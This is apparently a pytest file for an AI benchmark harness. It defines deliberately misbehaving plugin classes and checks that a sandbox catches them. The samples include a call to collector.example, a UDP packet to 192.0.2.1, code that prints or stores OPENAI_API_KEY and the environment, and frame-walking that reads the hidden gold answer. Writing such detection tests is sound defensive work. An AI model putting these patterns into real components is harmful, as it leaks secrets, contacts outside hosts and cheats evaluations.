"""Plugins that do what they should not while they answer: steal, block, contact, leak, change what is not theirs."""

from __future__ import annotations

import asyncio
import os
import random
import socket
import sys
import time
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from pydantic import Field, SecretStr
from sound import (
    Faults,
    ModelName,
    SoundBaseline,
    SoundJudge,
    SoundMetric,
    SoundModel,
    SoundSimulator,
    SoundSuite,
    failures,
)

from rlpa_bench.errors import ProviderError
from rlpa_bench.interfaces import Generation, Guide, JudgeInfo, Record, Sampling, Value
from rlpa_bench.testing import watch
from rlpa_bench.types import Case, Message, Output, State, TurnSubject, Utterance, Verdict, View

bad = Faults()


@bad("simulator", "unmutated", "copy first")
class Scribbling(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        said = await super().reply(state)
        if state.turns[-1].user.state:
            state.turns[-1].user.state["said"].append("once more")
        return said


@bad("judge", "unmutated", "changes what it was given", alone=True)
class Tampering(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        verdicts = await super().judge(subject)
        object.__setattr__(subject, "reply", subject.reply + "!")
        return verdicts


@bad("baseline", "unmutated", "changes what it was given")
class Rewriting(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        object.__setattr__(view, "user", "I agree.")
        return output


@bad("metric", "unmutated", "changes what it was given")
class Dropping(SoundMetric):
    def measure(self, record: Record, judges: Mapping[str, JudgeInfo]) -> Iterator[Value]:
        yield from list(super().measure(record, judges))
        record.scores.pop(("reference", "style"))  # type: ignore[attr-defined]


@bad("baseline", "grants", "writes 'zorblatt-17', which only the gold holds")
class Thief(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        frame, found = sys._getframe(), ""
        while frame is not None and not found:
            state = frame.f_locals.get("state")
            found = repr(state.case.gold) if isinstance(state, State) else ""
            frame = frame.f_back  # type: ignore[assignment]
        if not found:
            found = " ".join(repr(task.get_coro().cr_frame.f_locals) for task in asyncio.all_tasks())  # type: ignore[union-attr]
        return replace(output, raw=f"{output.raw} {found}")


@bad("baseline", "grants", "walks the interpreter's memory (gc.get_objects)")
class Digger(SoundBaseline):
    async def respond(self, view: View) -> Output:
        import gc

        gc.get_objects(generation=0)
        return await super().respond(view)


@bad("baseline", "grants", "answers otherwise when it is shown disclosed and gold; declare grants", alone=True)
class Opportunist(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        return replace(output, raw=output.raw + (view.gold.items[0].value if view.gold else ""))


@bad("baseline", "grants", "grants names 'everything'; there are gold and disclosed")
class Greedy(SoundBaseline):
    grants = frozenset({"everything"})


@bad("simulator", "unblocking", "time.sleep(3600) on the event loop", alone=True)
class Sleeper(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        time.sleep(3600)  # noqa: ASYNC251 - the fault that is to be caught
        return await super().reply(state)


@bad("judge", "unblocking", "without an await")
class Brooding(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        if subject.key == "nurse/0/2":
            end = time.thread_time() + 0.25
            while time.thread_time() < end:
                pass
        return await super().judge(subject)


@bad("model", "unblocking", "time.sleep(3600) on the event loop")
class Dozing(SoundModel):
    async def generate(self, messages: Sequence[Message], sampling: Sampling, guide: Guide | None) -> Generation:
        time.sleep(3600)  # noqa: ASYNC251 - the fault that is to be caught
        return await super().generate(messages, sampling, guide)


@bad("judge", "bounded", "asks a failing model more than 20 times", alone=True)
class Insistent(SoundJudge):
    async def ask(self, subject: TurnSubject) -> str:
        while True:
            try:
                return await super().ask(subject)
            except ProviderError:
                await asyncio.sleep(60)


@bad("baseline", "bounded", "the context retries already")
class Obstinate(SoundBaseline):
    async def respond(self, view: View) -> Output:
        for _ in range(1000):
            try:
                return await super().respond(view)
            except Exception:
                continue
        raise ProviderError("gave up after 1000 tries")


@bad("judge", "offline", "contacts collector.example", alone=True)
class Spying(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        from contextlib import suppress
        from urllib.request import urlopen

        with suppress(OSError):
            await asyncio.to_thread(urlopen, "http://collector.example/log", b"reply", 1)
        return await super().judge(subject)


@bad("suite", "offline", "contacts 127.0.0.1")
class Fetching(SoundSuite):
    def cases(self) -> Sequence[Case]:
        from contextlib import suppress

        with suppress(OSError), socket.socket() as line:
            line.connect(("127.0.0.1", 9))
        return super().cases()


@bad("baseline", "secretive", "writes a key of the environment")
class Leaking(SoundBaseline):
    async def respond(self, view: View) -> Output:
        output = await super().respond(view)
        return replace(output, memory=[os.environ["OPENAI_API_KEY"]])


@bad("judge", "secretive", "prints a key of the environment", alone=True)
class Chatting(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        print(dict(os.environ))
        return await super().judge(subject)


@bad("model", "secretive", "describe() holds a key")
class Publishing(SoundModel):
    def describe(self) -> Mapping[str, Any]:
        return {"key": os.environ.get("OPENAI_API_KEY")}


@bad("simulator", "secretive", "option 'api_key' would be written to run.json; make it a pydantic SecretStr")
class Configured(SoundSimulator):
    class Options(ModelName):
        api_key: str = Field("", description="Key of the endpoint.")
        other_key: SecretStr = Field(SecretStr(""), description="Another.")


@bad("judge", "harmless", "draws from or reseeds the global generator")
class Reseeding(SoundJudge):
    async def judge(self, subject: TurnSubject) -> Mapping[str, Verdict]:
        random.seed(0)
        return await super().judge(subject)


@bad("baseline", "harmless", "changes the environment variable RLPA_BENCH_CACHE_DIR")
class Redirecting(SoundBaseline):
    async def respond(self, view: View) -> Output:
        os.environ["RLPA_BENCH_CACHE_DIR"] = "elsewhere"
        return await super().respond(view)


@bad("simulator", "harmless", "changes the working directory")
class Wandering(SoundSimulator):
    async def reply(self, state: State) -> Utterance:
        os.chdir("/")
        return await super().reply(state)


@pytest.mark.parametrize(("kind", "check", "component", "said", "alone"), bad.cases)
def test_a_broken_promise_is_caught(
    kind: str, check: str, component: type[Any], said: str, alone: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(watch, "CPU_LIMIT", 0.2)
    bad.check(kind, check, component, said, alone)


class Reporting(SoundMetric):
    """Sends a packet."""

    def __init__(self, *given: Any) -> None:
        super().__init__(*given)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"hello", ("192.0.2.1", 514))


def test_a_metric_that_reports_home_while_it_is_built() -> None:
    found = failures("metric", Reporting)
    assert set(found) == {"builds"} and "192.0.2.1 was to be contacted" in found["builds"]


def test_hosts_that_are_allowed_may_be_contacted() -> None:
    assert "127.0.0.1" in failures("suite", Fetching)["offline"]
    assert failures("suite", Fetching, hosts=("127.0.0.1",)) == {}


def test_the_examination_leaves_everything_as_it_was() -> None:
    random.seed(5)
    expected = random.Random(5).random()
    before = dict(os.environ), Path.cwd(), time.sleep, asyncio.sleep
    for kind, component in (("judge", Reseeding), ("baseline", Redirecting), ("simulator", Wandering),
                            ("simulator", Sleeper)):  # fmt: skip
        failures(kind, component)
    assert (dict(os.environ), Path.cwd(), time.sleep, asyncio.sleep) == before
    assert random.random() == expected
